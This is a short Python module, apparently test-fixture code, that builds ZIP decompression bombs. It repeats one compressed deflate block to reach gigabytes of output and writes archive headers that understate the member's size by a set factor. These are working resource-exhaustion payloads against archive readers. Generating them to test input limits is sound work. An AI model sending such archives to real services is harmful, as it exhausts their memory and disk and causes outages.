"""Files that cost a naive reader minutes or gigabytes, made in a moment."""

from __future__ import annotations

import struct
import zlib


def deflated(block: bytes, times: int) -> bytes:
    """The block `times` times, as one raw deflate stream; it is compressed only once."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    return piece * times + zlib.compressobj(9, zlib.DEFLATED, -15).flush()


def packed(name: str, stream: bytes, stated: int) -> bytes:
    """An archive of one member, whose size is said to be `stated`."""
    sizes = struct.pack("<3I", 0, len(stream), stated)
    named = struct.pack("<2H", len(name), 0)
    local = b"PK\3\4" + struct.pack("<5H", 20, 0, 8, 0, 0) + sizes + named + name.encode()
    entry = b"PK\1\2" + struct.pack("<6H", 20, 20, 0, 8, 0, 0) + sizes + named
    entry += struct.pack("<3H2I", 0, 0, 0, 0, 0) + name.encode()
    end = struct.pack("<4H2IH", 0, 0, 1, 1, len(entry), len(local) + len(stream), 0)
    return local + stream + entry + b"PK\5\6" + end


def understating(name: str, size: int = 2_000_000_000, factor: int = 1_000_000) -> bytes:
    """An archive of one member that is `factor` times as large as it says."""
    return packed(name, deflated(b"word " * 200_000, size // 1_000_000), size // factor)
